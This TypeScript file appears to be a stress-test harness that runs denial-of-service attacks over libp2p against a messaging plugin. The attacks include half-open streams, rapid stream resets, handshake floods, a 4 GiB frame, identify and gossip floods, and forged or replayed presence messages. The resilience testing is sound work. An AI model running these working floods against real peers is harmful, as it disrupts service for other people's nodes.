// The attacks of strangers over libp2p. Each runs until its process ends, at a bounded rate. It must not import the plugin.

import { publicKeyToProtobuf } from "@libp2p/crypto/keys";
import { multiaddr } from "@multiformats/multiaddr";
import { controlRpc, field, makeUpPeer, presenceRpc } from "./presence-frames.ts";
import type { RawConnection } from "./raw-connection.ts";
import { dataFrame, FLAG, FRAME, frame, line, opening, varint } from "./raw-connection.ts";
import type { RawPeers } from "./raw-peers.ts";

const MQ = "/goop/mq/1.0.0";
const GOSSIP = "/meshsub/1.1.0";
const TICK_MS = 20;

export interface AttackOptions {
  /** Connections at a time. */
  readonly connections: number;
  /** Actions a second of all connections together. */
  readonly perSecond: number;
  /** A connection is closed after so many actions, and another identity comes in its place. */
  readonly actionsEach?: number;
}

/** What the attack has done so far. */
export interface AttackCounts {
  actions: number;
  connections: number;
  refused: number;
}

/** Runs once when a connection stands, and gives the frames of one action. */
type Attack = (connection: RawConnection) => (index: number) => readonly Uint8Array[];

export const ATTACKS = {
  /** Streams that begin a message and never end it. */
  halfOpen: (connection) => () => [opening(connection.nextId(), MQ, Buffer.from('{"id":'))],
  /** Call requests, hang-ups and offers, each in a stream of its own. */
  signals: (connection) => (index) => {
    const type = ["call-request", "call-hangup", "call-offer"][index % 3];
    const call = `attack-${connection.key.publicKey.raw[0]}-${Math.floor(index / 3)}`;
    const payload = { type, mode: "native", mediaType: "video", sdp: "v=0" };
    return [opening(connection.nextId(), MQ, message(`call:${call}`, payload), FLAG.fin)];
  },
  /** Streams that are opened and reset at once, as in HTTP/2's rapid reset. */
  resets: (connection) => () => {
    const id = connection.nextId();
    return [opening(id, MQ, Buffer.alloc(0)), frame(FRAME.window, FLAG.rst, id, 0)];
  },
  /** Connections that are closed as soon as they stand, since each costs a handshake. */
  handshakes: () => (index) => [frame(FRAME.ping, FLAG.syn, 0, index)],
  pings: () => (index) => [frame(FRAME.ping, FLAG.syn, 0, index)],
  /** Data without an end, announced as one frame of 4 GiB. */
  endlessFrame: (connection) => {
    const begun = frame(FRAME.data, FLAG.syn, connection.nextId(), 0xffff_ffff);
    const more = Buffer.alloc(32 * 1024);
    return (index) => [...(index === 0 ? [begun] : []), more];
  },
  /** One stream asks for protocols that nobody has. */
  unknownProtocols: (connection) => {
    const names = Buffer.concat(Array.from({ length: 500 }, (_, index) => line(`/x/${index}`)));
    return () => {
      const id = connection.nextId();
      return [dataFrame(FLAG.syn, id, Buffer.concat([line("/multistream/1.0.0"), names]))];
    };
  },
  /** Frames without data, and windows that grow. */
  emptyFrames: (connection) => {
    const id = connection.nextId();
    return (index) =>
      index === 0
        ? [opening(id, MQ, Buffer.from("{"))]
        : [frame(FRAME.data, 0, id, 0), frame(FRAME.window, 0, id, 1)];
  },
  /** Messages of a megabyte, which are not for us. */
  longMessages: (connection) => {
    const text = message("call:long", { type: "call-offer", sdp: "x".repeat(200_000) });
    const parts = [text.subarray(0, 200_000), text.subarray(200_000)];
    return () => {
      const id = connection.nextId();
      const [first = text, rest = text] = parts;
      return [opening(id, MQ, first), dataFrame(FLAG.fin, id, rest)];
    };
  },
  /** Answers the plugin's identify with as many addresses and protocols as it takes, and leaves for another identity. */
  identify: (connection) => {
    connection.onStream = (id, text) => {
      if (!text.includes("/ipfs/id/1.0.0")) return;
      connection.write(
        dataFrame(0, id, Buffer.concat([line("/multistream/1.0.0"), line("/ipfs/id/1.0.0")])),
        ...identities(connection).map((each) => dataFrame(0, id, each)),
        dataFrame(FLAG.fin, id, Buffer.alloc(0)),
      );
    };
    return () => [];
  },
  /** Presence that many identities have signed, over one connection. */
  presence: (connection) => presence(connection, 64),
  /** Topics and message ids without number, which cost gossip memory and answers. */
  gossipControl: (connection) => {
    const id = connection.nextId();
    return (index) => {
      const rpc = controlRpc(index);
      return [index === 0 ? opening(id, GOSSIP, rpc) : dataFrame(0, id, rpc)];
    };
  },
  /** One presence again and again. */
  replayedPresence: (connection) => presence(connection, 1),
} as const satisfies Record<string, Attack>;
export type AttackName = keyof typeof ATTACKS;

/** One stream of gossip. @param identities that sign, by turns; one identity sends the same message again and again */
function presence(connection: RawConnection, identities: number) {
  const peers = Array.from({ length: identities }, makeUpPeer);
  const [first] = peers;
  if (!first) throw new Error("unreachable: there is at least one identity");
  const replayed = presenceRpc(first, 0);
  const id = connection.nextId();
  return (index: number) => {
    const peer = peers[index % identities] ?? first;
    const rpc = identities === 1 ? replayed : presenceRpc(peer, index);
    return [index === 0 ? opening(id, GOSSIP, rpc) : dataFrame(0, id, rpc)];
  };
}

function message(topic: string, payload: unknown): Buffer {
  const id = `${Math.random()}`.padEnd(20, "0");
  return Buffer.from(`${JSON.stringify({ type: "msg", id, seq: Date.now(), topic, payload })}\n`);
}

/** Protobuf of /ipfs/id/1.0.0: publicKey 1, listenAddrs 2, protocols 3. Each below 8 KiB, ten at most. */
function identities({ key }: RawConnection): Buffer[] {
  const publicKey = field(1, publicKeyToProtobuf(key.publicKey));
  return Array.from({ length: 10 }, (_, part) => {
    const addresses = Array.from({ length: 300 }, (_, index) =>
      field(2, multiaddr(`/ip4/10.${part}.${index % 250}.${1 + (index % 7)}/tcp/${1 + index}`).bytes),
    );
    const protocols = Array.from({ length: 150 }, (_, index) =>
      field(3, Buffer.from(`/made-up/${part}/${index}`)),
    );
    const body = Buffer.concat([publicKey, ...addresses, ...protocols]);
    return Buffer.concat([varint(body.length), body]);
  });
}

/** Begins the attack. @returns its counts, which grow */
export function attack(name: AttackName, peers: RawPeers, options: AttackOptions): AttackCounts {
  const counts: AttackCounts = { actions: 0, connections: 0, refused: 0 };
  const open = new Set<{
    connection: RawConnection;
    act(index: number): readonly Uint8Array[];
    acted: number;
  }>();
  let dialling = 0;
  const dial = async () => {
    dialling += 1;
    try {
      const connection = await peers.connect();
      counts.connections += 1;
      open.add({ connection, act: ATTACKS[name](connection), acted: 0 });
    } catch (error) {
      if (process.env.ATTACK_DEBUG) console.error(error);
      counts.refused += 1;
    } finally {
      dialling -= 1;
    }
  };
  setInterval(() => {
    for (let missing = options.connections - open.size - dialling; missing > 0 && dialling < 8; missing -= 1)
      void dial();
    const each = Math.ceil((options.perSecond * TICK_MS) / 1_000 / Math.max(1, open.size));
    for (const one of open) {
      if (!one.connection.isOpen) {
        open.delete(one);
        continue;
      }
      if (!one.connection.isWritable) continue;
      const frames = Array.from({ length: each }, (_, index) => one.act(one.acted + index)).flat();
      if (frames.length > 0) one.connection.write(...frames);
      one.acted += each;
      counts.actions += each;
      if (one.acted >= (options.actionsEach ?? Number.POSITIVE_INFINITY)) one.connection.close();
    }
  }, TICK_MS);
  return counts;
}
